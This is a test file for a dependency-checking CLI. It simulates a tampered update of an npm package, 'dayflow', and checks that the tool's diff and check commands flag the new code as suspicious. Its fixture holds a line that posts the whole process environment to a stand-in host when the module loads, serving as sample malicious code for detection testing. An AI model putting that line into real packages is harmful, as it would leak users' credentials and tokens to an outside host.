import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { makeProject, runCli } from './run-cli.ts';

const CLEAN = `exports.get = () => fetch('https://api.example.test');\n`;
const TAMPERED = `${CLEAN}fetch('https://collect.example.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;

/** What the tampered version does that the clean one does not, and nothing else. */
const NEW = {
  signs: ['uses the network when it is loaded (index.js:2)', 'sends the environment (index.js:2)'],
  capabilities: ['environment (all) (index.js:2)', 'network (collect.example.test) (index.js:2)'],
};

function filesOf(version: string, code: string): Readonly<Record<string, string>> {
  const own = {
    version,
    resolved: `https://registry.example.test/dayflow/-/dayflow-${version}.tgz`,
    integrity: `sha512-${version}`,
  };
  const packages = { '': { dependencies: { dayflow: '^3.0.0' } }, 'node_modules/dayflow': own };
  return {
    'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages }, undefined, 2),
    'node_modules/dayflow/package.json': JSON.stringify({ name: 'dayflow', version }),
    'node_modules/dayflow/index.js': code,
  };
}

describe('an update from a clean to a tampered version', () => {
  const directory = makeProject({
    '.gitignore': 'node_modules\ncache\n',
    'package.json': { dependencies: { dayflow: '^3.0.0' } },
    ...filesOf('3.2.0', CLEAN),
  });
  const env = { XDG_CACHE_HOME: join(directory, 'cache') };
  for (const args of [
    ['init', '--quiet'],
    ['add', '--all'],
    ['-c', 'user.name=A', '-c', 'user.email=a@example.test', 'commit', '--quiet', '--message=one'],
  ])
    execFileSync('git', args, { cwd: directory });
  const inspected = runCli(['inspect', 'dayflow', directory, '--offline'], { env });
  for (const [path, text] of Object.entries(filesOf('3.2.1', TAMPERED)))
    writeFileSync(join(directory, path), text);

  test('starts from a clean one', () => assert.equal(inspected.code, 0));

  test('shows exactly the new capabilities in diff', () => {
    const { out, error } = runCli(['diff', directory, '--format', 'json'], { env });
    assert.equal(error, '');
    assert.deepEqual(JSON.parse(out).code, [
      {
        ...{ lockfile: 'package-lock.json', name: 'dayflow', before: '3.2.0', after: '3.2.1' },
        ...{ compared: true, suspicious: true, ...NEW },
      },
    ]);
    const text = runCli(['diff', directory], { env }).out;
    assert.match(
      text,
      /^New in the code of updated packages:\n {2}! dayflow 3\.2\.0 → 3\.2\.1, suspicious$/m,
    );
    for (const one of [...NEW.signs, ...NEW.capabilities]) assert.ok(text.includes(`+ ${one}`), one);
  });

  test('is a finding of check --since', () => {
    const { out } = runCli(['check', directory, '--since', 'HEAD', '--format', 'json', '--offline'], { env });
    const found = JSON.parse(out).findings.filter(
      ({ rule }: { readonly rule: string }) => rule === 'suspicious-code',
    );
    assert.deepEqual(
      found.map(({ severity, message }: { readonly severity: string; readonly message: string }) => [
        severity,
        message,
      ]),
      [
        [
          'warning',
          `dayflow 3.2.1 has suspicious code: it ${NEW.signs.join(' and ')}, unlike 3.2.0. Read it before you use this version.`,
        ],
      ],
    );
  });

  test('says nothing of code that is unknown', () => {
    const { out } = runCli(['diff', directory], { env: { XDG_CACHE_HOME: join(directory, 'other') } });
    assert.doesNotMatch(out, /code of/);
  });
});
